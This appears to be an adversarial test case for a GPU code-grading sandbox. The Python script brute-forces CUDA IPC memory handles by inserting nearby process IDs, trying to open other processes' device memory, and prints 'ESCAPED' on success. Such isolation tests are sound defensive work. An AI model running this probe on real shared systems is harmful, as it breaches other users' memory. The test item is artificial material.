# attack: open another process's device memory by guessing its handle
# expect: wrong_answer, runtime_error
import ctypes
import os

import torch


class Handle(ctypes.Structure):
    _fields_ = (("reserved", ctypes.c_ubyte * 64),)


mine = torch.zeros(1 << 20, device="cuda")
driver = ctypes.CDLL("libcuda.so.1")
handle, opened = Handle(), ctypes.c_uint64()
print("a handle of my own", driver.cuIpcGetMemHandle(ctypes.byref(handle), ctypes.c_uint64(mine.data_ptr())))
numbers = range(max(1, os.getpid() - 64), os.getpid() + 64)
for place in range(0, 64, 4):
    for number in numbers:
        guess = Handle.from_buffer_copy(handle)
        ctypes.memmove(ctypes.addressof(guess) + place, ctypes.byref(ctypes.c_uint32(number)), 4)
        if driver.cuIpcOpenMemHandle_v2(ctypes.byref(opened), guess, ctypes.c_uint(1)) == 0:
            print("ESCAPED: opened", place, number)
